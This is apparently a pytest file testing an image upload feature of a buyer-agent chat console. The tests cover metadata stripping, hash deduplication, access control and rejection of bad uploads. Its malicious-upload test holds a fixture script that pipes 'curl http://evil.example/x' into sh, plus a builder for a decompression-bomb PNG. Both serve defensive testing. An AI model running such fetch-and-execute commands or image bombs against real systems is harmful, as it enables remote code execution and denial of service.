"""Images both ways (issue 13): chunked uploads checked by content, cleaned, stored once by hash
before the message is committed, and served only to who may see the conversation."""

from __future__ import annotations

import hashlib
import io
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image

from console.protocol.messages import (
    IMAGE_CHUNK_BYTES,
    AgentMessage,
    Arrive,
    ConversationUpdated,
    Entry,
    Error,
    ErrorCode,
    GetImage,
    ImageBegin,
    ImageChunk,
    ImageEnd,
    ImagePart,
    MessageAdded,
    Ok,
    Open,
    ReplyAck,
    SayAck,
)
from console.reception.model import IMAGE_TEXT, MessageKind

from .helpers import Client, open_store, run, running_server, store_config
from .test_reception import buyer, online, row_of


def jpeg_with_gps(size: tuple[int, int] = (64, 48)) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}  # GPS IFD: Shanghai
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30), colour: tuple[int, int, int] = (10, 120, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "PNG")
    return out.getvalue()


def bomb_png(side: int = 60_000) -> bytes:
    """A valid PNG header claiming side × side pixels over a few kilobytes of zlib: decoding it
    would take gigabytes."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)  # 8-bit greyscale
    rows = zlib.compress(b"\x00" * (side + 1) * 64, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


async def upload(client: Client, data: bytes, client_id: str, conversation: str | None = None, *,
                 size: int | None = None, chunk: int = IMAGE_CHUNK_BYTES) -> object:
    """begin, chunks, end; the first answer that is not ``ok`` (or the end's)."""
    begin = await client.request(ImageBegin(client_id=client_id, size=len(data) if size is None else size,
                                            sha256=hashlib.sha256(data).hexdigest(), conversation=conversation))
    if not isinstance(begin, Ok):
        return begin
    for offset in range(0, len(data), chunk):
        answer = await client.request(ImageChunk(client_id=client_id, offset=offset, data=data[offset:offset + chunk]))
        if not isinstance(answer, Ok):
            return answer
    return await client.request(ImageEnd(client_id=client_id))


async def fetch(client: Client, sha: str, conversation: str | None = None, *, thumb: bool = False) -> bytes | Error:
    got = b""
    while True:
        part = await client.request(GetImage(sha256=sha, conversation=conversation, offset=len(got), thumb=thumb))
        if not isinstance(part, ImagePart):
            return part  # type: ignore[no-any-return]
        got += part.data
        if len(got) >= part.size:
            return got


def stored_files(data: Path) -> list[Path | str]:
    """The images stored and their thumbnails: files of the SQLite shop's folder, rows of the
    PostgreSQL shop's ``images`` table (read on a connection of the test's own)."""
    if store_config(data):
        store = open_store(data)
        try:
            rows = store.all("SELECT sha256 FROM images ORDER BY sha256")
        finally:
            store.close()
        return [f"{r[0]}{kind}" for r in rows for kind in ("", ".thumb")]
    folder = data / "images"
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def test_a_buyer_photo_is_cleaned_stored_once_and_shown_to_its_agent(tmp_path: Path) -> None:
    photo = jpeg_with_gps((1200, 900))  # more than one chunk once noise is added below
    noisy = Image.open(io.BytesIO(photo))
    noisy.putdata([((x * 7) % 256, (x * 13) % 256, (x * 29) % 256) for x in range(1200 * 900)])
    out = io.BytesIO()
    exif = Image.open(io.BytesIO(photo)).getexif()
    noisy.save(out, "JPEG", exif=exif, quality=95)
    photo = out.getvalue()
    assert len(photo) > 2 * IMAGE_CHUNK_BYTES and Image.open(io.BytesIO(photo)).getexif().get_ifd(0x8825)

    async def scenario() -> None:
        async with running_server(tmp_path) as server:
            a1 = await online(server, "a1")
            b1 = await buyer(server, "b1")
            await b1.request(Arrive(entry=Entry.PRODUCT_DETAIL))
            await a1.expect(ConversationUpdated, row_of("b1"))
            ack = await upload(b1, photo, "p1")
            assert isinstance(ack, SayAck) and not ack.duplicate, ack
            event = await a1.expect(MessageAdded)
            added, row = event.message, event.conversation  # the message and its row, one event
            assert added.kind is MessageKind.IMAGE and added.text == IMAGE_TEXT and added.image is not None
            assert row is not None and row.last_text == "[图片]" and row.unread == 1
            ref = added.image
            assert (ref.mime, ref.width, ref.height) == ("image/jpeg", 1200, 900)

            got = await fetch(a1, ref.sha256, "b1")
            assert isinstance(got, bytes) and hashlib.sha256(got).hexdigest() == ref.sha256 and len(got) == ref.size
            clean = Image.open(io.BytesIO(got))
            assert not clean.getexif() and "exif" not in clean.info and "icc_profile" not in clean.info
            thumb = await fetch(a1, ref.sha256, "b1", thumb=True)
            assert isinstance(thumb, bytes) and max(Image.open(io.BytesIO(thumb)).size) == 320

            again = await upload(b1, photo, "p2")  # the same picture sent twice: two messages, one file
            assert isinstance(again, SayAck) and not again.duplicate
            second = (await a1.expect(MessageAdded)).message
            assert second.image == ref
            assert len(stored_files(tmp_path / "data")) == 2  # the image and its thumbnail
            resend = await b1.request(ImageBegin(client_id="p2", size=len(photo),
                                                 sha256=hashlib.sha256(photo).hexdigest()))
            assert isinstance(resend, SayAck) and resend.duplicate and resend.message_id == again.message_id

        async with running_server(tmp_path) as server:  # a restart keeps them
            a1 = await Client.agent(server)
            await a1.login("a1")
            history = await a1.request(Open(conversation="b1"))
            assert [m.kind for m in history.messages] == [MessageKind.IMAGE, MessageKind.IMAGE]
            got = await fetch(a1, ref.sha256, "b1")
            assert isinstance(got, bytes) and hashlib.sha256(got).hexdigest() == ref.sha256

    run(scenario())


def test_malicious_uploads_get_typed_errors_and_store_nothing(tmp_path: Path) -> None:
    good = png()
    truncated = jpeg_with_gps((300, 200))
    truncated = truncated[: len(truncated) // 2]
    script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n" * 3  # "renamed .png": there is no name, only bytes

    async def scenario() -> None:
        async with running_server(tmp_path) as server:
            a1 = await online(server, "a1")
            b1 = await buyer(server, "b1")
            await b1.request(Arrive(entry=Entry.PRODUCT_DETAIL))
            await a1.expect(ConversationUpdated, row_of("b1"))
            for client, conversation in ((b1, None), (a1, "b1")):
                for data, code in ((bomb_png(), ErrorCode.BAD_IMAGE), (truncated, ErrorCode.BAD_IMAGE),
                                   (script, ErrorCode.BAD_IMAGE)):
                    answer = await upload(client, data, "bad", conversation)
                    assert isinstance(answer, Error) and answer.code is code, answer
                # 100 MB: refused at once by the declared size, before any byte
                answer = await client.request(ImageBegin(client_id="big", size=100 * 1024 * 1024, sha256="0" * 64,
                                                         conversation=conversation))
                assert isinstance(answer, Error) and answer.code is ErrorCode.OVERSIZED and answer.field == "size"
                # ... and by the bytes received: more than declared drops the upload
                answer = await upload(client, good, "liar", conversation, size=len(good) - 10)
                assert isinstance(answer, Error) and answer.code is ErrorCode.OVERSIZED, answer
                gone = await client.request(ImageEnd(client_id="liar"))
                assert isinstance(gone, Error) and gone.code is ErrorCode.NOT_FOUND
                # fewer bytes than declared, or other bytes than the hash: invalid at the end
                answer = await upload(client, good, "short", conversation, size=len(good) + 10)
                assert isinstance(answer, Error) and answer.code is ErrorCode.INVALID, answer
            assert stored_files(tmp_path / "data") == []
            history = await a1.request(Open(conversation="b1"))
            assert history.messages == []
            ok = await upload(b1, good, "fine")  # the connection goes on
            assert isinstance(ok, SayAck)

    run(scenario())


def test_only_who_may_see_the_conversation_gets_its_images(tmp_path: Path) -> None:
    async def scenario() -> None:
        async with running_server(tmp_path) as server:
            a1 = await online(server, "a1")
            a2 = await Client.agent(server)
            await a2.login("a2")  # offline: b1 goes to a1
            sup = await Client.agent(server)
            await sup.login("sup")
            b1 = await buyer(server, "b1")
            await b1.request(Arrive(entry=Entry.PRODUCT_DETAIL))
            await a1.expect(ConversationUpdated, row_of("b1"))
            ack = await upload(a1, png(), "r1", "b1")  # the agent sends a picture to the buyer
            assert isinstance(ack, ReplyAck), ack
            sent = await b1.expect(AgentMessage)
            assert sent.kind is MessageKind.IMAGE and sent.image is not None and sent.text == IMAGE_TEXT
            sha = sent.image.sha256
            assert isinstance(await fetch(b1, sha), bytes)  # the buyer gets its own
            assert isinstance(await fetch(sup, sha, "b1"), bytes)  # a supervisor any conversation
            for refused in (await fetch(a2, sha, "b1"), await upload(a2, png(), "x", "b1")):
                assert isinstance(refused, Error) and refused.code is ErrorCode.FORBIDDEN, refused
            b2 = await buyer(server, "b2")  # another buyer, naming the hash it should not know
            other = await fetch(b2, sha)
            assert isinstance(other, Error) and other.code is ErrorCode.NOT_FOUND
            other = await fetch(b2, sha, "b1")
            assert isinstance(other, Error) and other.code is ErrorCode.FORBIDDEN
            await a1.request(Open(conversation="b1"))
            missing = await fetch(a1, "f" * 64, "b1")  # in no message of the conversation
            assert isinstance(missing, Error) and missing.code is ErrorCode.NOT_FOUND

    run(scenario())


@pytest.mark.sqlite_only  # it plants files in the SQLite shop's folder (on PostgreSQL: DATA/pg-SHOP)
def test_at_start_images_no_message_shows_go_once_an_hour_old_never_a_shown_one(tmp_path: Path) -> None:
    """Issue 13: an image written but never shown by a committed message (its request failed after
    the write, or the server stopped in between) is removed at the next start once it is an hour
    old; an image a message shows stays whatever its age, and so does a fresh orphan."""
    import os
    import time

    from console.client.buyer import BuyerClient
    from console.server.images import ImageStore

    store = ImageStore(tmp_path / "data")
    old = time.time() - 2 * 3600

    async def first() -> str:
        async with running_server(tmp_path) as server, BuyerClient(server.url, "b1", name="小王") as client:
            await client.arrive(Entry.PRODUCT_DETAIL)
            ack = await client.send_image(png((50, 40)), client_id="pic-1")
            assert not ack.duplicate
        [shown] = [p.parent.name + p.name for p in store.folder.glob("*/*") if not p.name.endswith(".thumb")]
        return shown

    shown = run(first())
    orphan = store.accept_now(png((30, 30), (1, 2, 3))).sha256
    fresh = store.accept_now(png((30, 30), (4, 5, 6))).sha256
    torn = store.folder / orphan[:2] / ".tmp-0123456789abcdef"
    torn.write_bytes(b"half an image")
    for path in [store.path(shown), store.path(shown, thumb=True), store.path(orphan),
                 store.path(orphan, thumb=True), torn]:
        os.utime(path, (old, old))

    async def again() -> None:
        async with running_server(tmp_path) as server, BuyerClient(server.url, "b1", name="小王") as client:
            await client.arrive(Entry.PRODUCT_DETAIL)
            assert (await client.fetch_image(shown)) == store.path(shown).read_bytes()

    run(again())
    assert store.path(shown).exists() and store.path(shown, thumb=True).exists()
    assert not store.path(orphan).exists() and not store.path(orphan, thumb=True).exists() and not torn.exists()
    assert store.path(fresh).exists() and store.path(fresh, thumb=True).exists()
